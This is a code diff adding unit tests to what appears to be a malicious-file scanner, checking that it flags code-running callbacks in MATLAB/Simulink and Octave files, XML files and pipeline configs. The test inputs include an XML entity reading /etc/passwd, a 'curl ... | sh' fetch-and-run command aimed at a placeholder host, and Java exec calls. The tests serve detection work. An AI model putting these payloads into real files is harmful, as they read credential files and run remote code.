@@ -103,6 +103,40 @@ public sealed class TokenNumberTests
     public void T144_ATemplateOfOllamaThatTurnsRolesIsTold(string modelfile, bool isTold) =>
         Assert.Equal(isTold, Scans.Of(Encoding.UTF8.GetBytes(modelfile), "Modelfile").Is("template-turns-roles"));
 
+    [Theory]
+    [InlineData("m.mdl", "Model {\n  Name \"m\"\n  InitFcn \"system('touch /tmp/canary')\"\n}\n", true)]
+    [InlineData("m.mdl", "Model {\n  Name \"m\"\n  InitFcn \"Kp = 1.5; plot(x)\"\n}\n", false)]
+    [InlineData("f.mat", "# Created by Octave 8.4.0\n# name: f\n# type: function handle\n@<fnhandle>\n@() system (\"touch /tmp/canary\")\n\n", true)]
+    [InlineData("f.mat", "# Created by Octave 8.4.0\n# name: w\n# type: matrix\n# rows: 1\n# columns: 2\n 1 2\n\n", false)]
+    [InlineData("blockdiagram.xml", "<?xml version=\"1.0\"?>\n<ModelInformation><Model><P Name=\"InitFcn\">system('touch /tmp/canary')</P></Model></ModelInformation>", true)]
+    [InlineData("blockdiagram.xml", "<?xml version=\"1.0\"?>\n<ModelInformation><Model><P Name=\"InitFcn\">Kp = 2;</P></Model></ModelInformation>", false)]
+    public void CallbacksOfDiagramsAndHandlesAsTextAreRead(string name, string text, bool isTold)
+    {
+        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(text), name);
+        Assert.True(target.Is("matlab-function-acts") == isTold, target.Describe());
+        target.AssertComplete();
+    }
+
+    [Theory]
+    [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<opencv_storage><c>&x;</c></opencv_storage>", true)]
+    [InlineData("<process version=\"9\"><operator class=\"productivity:execute_program\"><parameter key=\"command\" value=\"sh -c &quot;curl http://x.example.invalid/a | sh&quot;\"/></operator></process>", true)]
+    [InlineData("<config><entry key=\"scriptBody\" value=\"Runtime.getRuntime().exec(&quot;sh -c id&quot;);\"/></config>", true)]
+    [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE log4j SYSTEM \"log4j.dtd\">\n<log4j><a b=\"c\">text &amp; more</a></log4j>", false)]
+    [InlineData("<annotation><folder>a</folder><object><name>dog</name></object>", false)]
+    public void T178_XmlOfNoFormatIsReadForEntitiesAndScripts(string text, bool isTold)
+    {
+        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(text), "settings.xml");
+        Assert.True(target.Verdict >= Verdict.Suspicious == isTold, target.Describe());
+        target.AssertComplete();
+    }
+
+    [Fact]
+    public void T163_AComponentOfAPipelineByItsFullNameIsToldWhereItIsASink()
+    {
+        Assert.Equal(Verdict.Malicious, Scans.Of("language: en\npipeline:\n- name: subprocess.Popen\n  args: x\n"u8.ToArray(), "config.yml").Verdict);
+        Assert.Equal(Verdict.Passed, Scans.Of("language: en\npipeline:\n- name: WhitespaceTokenizer\n- name: addons.features.Own\npolicies:\n- name: TEDPolicy\n"u8.ToArray(), "config.yml").Verdict);
+    }
+
     [Fact]
     public void ATableOfPlainNumbersIsToldByItsContent()
     {
